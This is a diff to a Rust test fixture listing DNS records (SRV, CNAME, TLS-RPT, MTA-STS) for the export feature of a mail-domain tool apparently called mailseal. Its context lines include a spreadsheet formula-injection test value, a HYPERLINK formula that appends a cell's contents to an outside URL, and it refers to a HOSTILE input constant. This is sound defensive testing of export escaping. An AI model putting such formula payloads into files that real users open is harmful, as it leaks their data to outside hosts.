@@ -3,7 +3,7 @@
 use mailseal::{
     export::{FORMATS, Format, Records, Row, by_name},
     plan::publish::Data,
-    record::visible::visible_lines,
+    record::{srv::Srv, visible::visible_lines},
 };
 
 use super::{mx, name, row, text};
@@ -36,6 +36,15 @@ pub(super) fn everything() -> Vec<Row> {
         text("odd._domainkey.example.com", HOSTILE),
         text("formula._domainkey.example.com", "=HYPERLINK(\"https://example.net/\"&A1)"),
         text("example.com._report._dmarc.service.example.net", "v=DMARC1"),
+        row("_imaps._tcp.example.com", Data::Srv("0 1 993 mail.example.com".parse().unwrap())),
+        row("_submissions._tcp.example.com", Data::Srv("10 1 465 mail.example.com".parse().unwrap())),
+        row("_imap._tcp.example.com", Data::Srv(Srv::refusal())),
+        row("autoconfig.example.com", Data::Cname(name("mail.example.com"))),
+        text(
+            "_smtp._tls.example.com",
+            "v=TLSRPTv1; rua=mailto:tls@example.com,https://reports.example.net/tls",
+        ),
+        text("_mta-sts.example.com", "v=STSv1; id=20261201T090000;"),
     ]
 }
 
